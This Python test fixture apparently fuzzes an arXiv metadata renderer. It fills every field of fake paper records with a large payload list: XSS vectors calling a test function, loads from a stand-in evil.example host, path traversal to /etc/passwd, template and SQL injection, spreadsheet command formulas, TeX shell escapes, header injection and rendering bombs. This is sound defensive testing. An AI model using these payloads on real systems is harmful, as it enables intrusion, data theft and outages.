"""Texts that mean ill: markup, scripts, links, formulas, templates, marks that hide; and papers made of them.

Where one runs, it calls `pwn()`, which a test defines.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

from tests.conftest import record

_MARKUP = r"""
<script>pwn()</script>
<ScRiPt>pwn()</sCrIpT>
<script src=//evil.example/x.js></script>
<script src="data:text/javascript,pwn()"></script>
<script type=module>pwn()</script>
<scr<script>ipt>pwn()</scr</script>ipt>
</script><script>pwn()</script>
</title><script>pwn()</script>
</textarea><script>pwn()</script>
</style><script>pwn()</script>
</noscript><script>pwn()</script>
</template><script>pwn()</script>
</select><script>pwn()</script>
</details></li></ol></main><script>pwn()</script>
--><script>pwn()</script>
<!--<img src="--><img src=x onerror=pwn()//">
]]><script>pwn()</script>
<![CDATA[<script>pwn()</script>]]>
<?xml version="1.0"?><script>pwn()</script>
<img src=x onerror=pwn()>
<img src=x onerror="pwn()"
<img/src=x/onerror=pwn()>
<img src=x:x onerror=window['pwn']()>
<img src=x onerror=&#112;&#119;&#110;&#40;&#41;>
<img src="x` `<script>pwn()</script>"` `>
<img srcset="x 1x" src onerror=pwn()>
<image src=x onerror=pwn()>
<svg onload=pwn()>
<svg/onload=pwn()//
<svg><script>pwn()</script></svg>
<svg><script href="data:,pwn()"/></svg>
<svg><animate onbegin=pwn() attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:pwn() /><a><text>x</text></a>
<svg><a xlink:href="javascript:pwn()"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>pwn()</script></svg>#x"/>
<svg><foreignObject><iframe srcdoc="<script>parent.pwn()</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=pwn()></style></svg>
<math><maction actiontype="statusline" xlink:href="javascript:pwn()">x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">
<math><annotation-xml encoding="text/html"><script>pwn()</script></annotation-xml></math>
<math><semantics><annotation-xml encoding="text/html"><img src=x onerror=pwn()></annotation-xml></semantics></math>
<math href="javascript:pwn()">x</math>
<math><mi//xlink:href="data:x,<script>pwn()</script>">
<body onload=pwn()>
<body onpageshow=pwn()>
<iframe src=javascript:pwn()></iframe>
<iframe srcdoc="<script>parent.pwn()</script>"></iframe>
<iframe onload=pwn()></iframe>
<object data="javascript:pwn()"></object>
<object data="data:text/html,<script>parent.pwn()</script>"></object>
<embed src="javascript:pwn()">
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bigpIi8+">
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href="data:text/html,<script>pwn()</script>">
<link rel=prefetch href=//evil.example/leak>
<style>*{background:url(//evil.example/leak)}</style>
<style>@import '//evil.example/x.css';</style>
<div style="position:fixed;inset:0;background:red">x</div>
<div style="background:url(javascript:pwn())">x</div>
<p style="animation-name:x" onanimationstart=pwn()>
<meta http-equiv=refresh content="0;url=javascript:pwn()">
<meta http-equiv=refresh content="0;url=//evil.example/">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<base href=//evil.example/>
<base target=evil>
<form action=//evil.example/><input name=q><button>x</button></form>
<form><button formaction=javascript:pwn()>x</button></form>
<input onfocus=pwn() autofocus>
<input type=image src=x onerror=pwn()>
<select onfocus=pwn() autofocus><option>x</select>
<textarea onfocus=pwn() autofocus>x</textarea>
<keygen onfocus=pwn() autofocus>
<details open ontoggle=pwn()>x</details>
<dialog open>x</dialog>
<marquee onstart=pwn()>x</marquee>
<video onerror=pwn()><source></video>
<video poster=javascript:pwn()>
<audio src=x onerror=pwn()>
<table background=javascript:pwn()>
<a href=javascript:pwn()>x</a>
<a href="&#106;avascript:pwn()">x</a>
<a href="java&Tab;script:pwn()">x</a>
<a href=data:text/html,<script>pwn()</script>>x</a>
<a href=vbscript:pwn()>x</a>
<a href=//evil.example/ ping=//evil.example/leak autofocus onfocus=pwn()>x</a>
<a id=q name=q>x</a><a id=list>x</a><form id=main></form>
<h1>Another page</h1>
<isindex action=javascript:pwn() type=image>
<xss onclick=pwn() tabindex=1 id=x autofocus onfocus=pwn()>x</xss>
<x contenteditable onblur=pwn()>x</x>
<slot onslotchange=pwn()></slot><template shadowrootmode=open><script>pwn()</script></template>
<frameset onload=pwn()>
<plaintext>
<xmp><script>pwn()</script></xmp>
<listing>&lt;script&gt;pwn()&lt;/script&gt;</listing>
<noscript><p title="</noscript><img src=x onerror=pwn()>">
<ruby><rt><script>pwn()</script></ruby>
<b>bold</b><i>it</i><u>u
<
<<>>
< script>pwn()</ script>
<%00script>pwn()</script>
&lt;script&gt;pwn()&lt;/script&gt;
&amp;lt;script&amp;gt;pwn()
&#60;script&#62;pwn()&#60;/script&#62;
&#x3c;script&#x3e;pwn()
%3Cscript%3Epwn()%3C/script%3E
%253Cscript%253E
\x3cscript\x3epwn()
\u003cscript\u003epwn()
+ADw-script+AD4-pwn()+ADw-/script+AD4-
＜script＞pwn()＜/script＞
‹script›pwn()
ʺ onmouseover=pwn() ʺ
" onmouseover="pwn()
' onmouseover='pwn()
" autofocus onfocus="pwn()
"><script>pwn()</script>
'><script>pwn()</script>
`><script>pwn()</script>
"/><img src=x onerror=pwn()>
x" style="position:fixed;inset:0" "
x' or 1=1 --
"; pwn(); "
'; pwn(); '
`${pwn()}`
\"; pwn(); //
\'; pwn(); //
*/pwn()/*
javascript:pwn()
JaVaScRiPt:pwn()
javascript://%0Apwn()
data:text/html,<script>pwn()</script>
//evil.example/x
https://evil.example/"onclick="pwn()
\\evil.example\x
/\evil.example
../../../../etc/passwd
file:///etc/passwd
{{7*7}}
{{ config }}
{{ self.__init__.__globals__ }}
{% for x in range(9) %}x{% endfor %}
{% raw %}{{ x }}{% endraw %}
{# x #}
${7*7}
#{7*7}
<%= 7*7 %>
<?php pwn() ?>
{{constructor.constructor('pwn()')()}}
[[${7*7}]]
%(id)s %s %d %n {0} {id} {0.__class__}
__proto__
constructor
toString
=HYPERLINK("http://evil.example/","x")
=cmd|' /C calc'!A0
+1+cmd|' /C calc'!A0
-2+3+cmd|' /C calc'!A0
@SUM(1+9)*cmd|' /C calc'!A0
@article{x, title={y}}
} , author = {Evil}, x = {
\input{/etc/passwd} \immediate\write18{id}
TY  - JOUR
ER  -
[x](javascript:pwn())
![x](x" onerror="pwn())
<javascript:pwn()>
| a | b |
*bold* _it_ `code` # head
expression(pwn())
url(javascript:pwn())
-moz-binding:url(//evil.example/x)
x;background:url(//evil.example/x)
'; DROP TABLE papers; --
null
undefined
NaN
-0
1e400
0x1f
""".strip().splitlines()

_INSIDE_TEX = [
    "<script>pwn()</script>", "<img src=x onerror=pwn()>", "<svg onload=pwn()>", "</math><script>pwn()</script>",
    "&lt;script&gt;pwn()&lt;/script&gt;", '" onmouseover="pwn()', "]]><script>pwn()</script>", "{{7*7}}",
    "</mtext></math><img src=x onerror=pwn()>", "<mglyph><style><img src=x onerror=pwn()>",
]  # fmt: skip
_TEX = [
    r"$%s$", r"$$%s$$", r"\(%s\)", r"\[%s\]", r"$\text{%s}$", r"$\mbox{%s}$", r"$\hbox{%s}$", r"$\textbf{%s}$",
    r"$\operatorname{%s}$", r"$\unicode{%s}$", r"$\verb|%s|$", r"$\tag{%s}$", r"$\begin{%s}x\end{%s}$", r"\emph{%s}",
    r"$\class{%s}{x}$", r"$\href{%s}{x}$", r"$\color{%s}{x}$", r"\'{%s}", r"\textbf{%s}", r"$x^{%s}$",
]  # fmt: skip
_MORE_TEX = r"""
$\href{javascript:pwn()}{x}$
$\href{data:text/html,<script>pwn()</script>}{x}$
$\style{position:fixed;inset:0;background:red}{x}$
$\style{background:url(//evil.example/leak)}{x}$
$\class{x" onclick="pwn()}{y}$
$\cssId{q}{x}$
$\require{html}\data{x=y}{z}$
$\unicode{x3c}script\unicode{x3e}pwn()\unicode{x3c}/script\unicode{x3e}$
$\text{\unicode{x3c}script}$
$\hspace{100000em}x$
$\rule{100000em}{100000em}$
$\raise{-100000em}{x}$
$\color{white}{x}$
$\colorbox{red}{<b>x</b>}$
$\fcolorbox{red}{url(//evil.example/x)}{x}$
$\Huge\Huge\Huge x$
$\def\x{\x\x}\x$
$\newcommand{\a}{\a\a}\a$
$\input{/etc/passwd}$
$\begin{array}{<script>}x\end{array}$
$\genfrac<>{1000px}{0}{a}{b}$
$\left<script\right>$
$\not<\not>$
$a<b>c</b>$
$x$<script>pwn()</script>$y$
\url{javascript:pwn()}
\href{javascript:pwn()}{x}
\special{html:<script>pwn()</script>}
\cite{<script>pwn()</script>}
""".strip().splitlines()

_CHARACTERS = [
    "\u202egnp.exe",
    "\u2066\u2067x\u2069\u202c",
    "\u061carabic",
    "z\u200be\u200cr\u200do\u2060\ufeff",
    "\u00adsoft\u00ad",
    "null\x00byte",
    "bell\x07 \x08back",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.example\x1b\\link",
    "\x7f\x80\x9f\x85",
    "line\u2028para\u2029",
    "tab\there",
    "\ufdd0\ufffe\U0010ffff",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334" * 20,
    "עברית עם English",
    "مرحبا <b>x</b>",
    "日本語" * 200,
    "W" * 3_000,
    "<" * 400,
    "&" * 400,
    '"' * 400,
    "$" * 401,
    "{" * 400,
    "\\" * 401,
    "a-" * 400,
    "\U0001f4a9" * 200,
    "\u0334" * 500,
    "(" * 400,
    "x\r\nSet-Cookie: pwned=1",
    "x\nX-Pwned: 1\n\n<script>pwn()</script>",
    "%0d%0aSet-Cookie:pwned=1",
    "\u560d\u560aX-Pwned: 1",
]

BOMBS = [  # for browsers and for what makes MathML
    "$" + "{" * 900 + "x" + "}" * 900 + "$",
    "$" + r"\frac{1}{" * 220 + "x" + "}" * 220 + "$",
    "$" + r"\sqrt{" * 330 + "x" + "}" * 330 + "$",
    "$" + "x^{" * 480 + "x" + "}" * 480 + "$",
    "$" + "x+" * 990 + "x$",
    "$" + "x+" * 50_000 + "x$",
    "$x+y$ " * 2_000,
    "$" + r"\left(" * 150 + "x" + r"\right)" * 150 + "$",
    "$" + r"\begin{matrix}" * 60 + "x" + r"\end{matrix}" * 60 + "$",
    "$" + r"\sum_{i}^{n}\int_a^b\frac{a}{b}" * 60 + "$",
    "<math>" + "<mrow>" * 900 + "<mi>x</mi>" + "</mrow>" * 900 + "</math>",
]

PAYLOADS: list[str] = [
    *_MARKUP,
    *(tex.replace("%s", inside) for tex in _TEX for inside in _INSIDE_TEX),
    *_MORE_TEX,
    *_CHARACTERS,
]

_SEPARATES = re.compile(r"[\s,;]")
_SPECIAL = re.compile(r"[^\w\s,;:./-]")


def harmless_twin(text: str) -> str:
    """A text of the same length and words that has nothing to run, for comparison."""
    return _SPECIAL.sub("x", text)


def id_of(n: int) -> str:
    """The arXiv id of the n-th paper."""
    return f"2401.{n + 1:05}"


def papers(texts: Iterable[str]) -> list[dict[str, Any]]:
    """A paper for each text, which stands in every field that may hold it."""
    return [
        record(
            id_of(n),
            title=text,
            abstract=f"{text} {text}",
            authors=f"{text}, Ada Lovelace",
            authors_parsed=[[text, text, text], ["Lovelace", "Ada", ""]],
            comments=text,
            doi=text,
            **{"journal-ref": text},
            categories=f"cs.CL {re.sub(_SEPARATES, '', text)}{n}",
        )
        for n, text in enumerate(texts)
    ]


def ids(texts: Iterable[str]) -> list[str]:
    """The texts that can be an id of no archive, so far as a snapshot may have it."""
    found = {re.sub(r"\s", "", text)[:200] for text in texts}
    return sorted(one for one in found if one and one.isprintable())
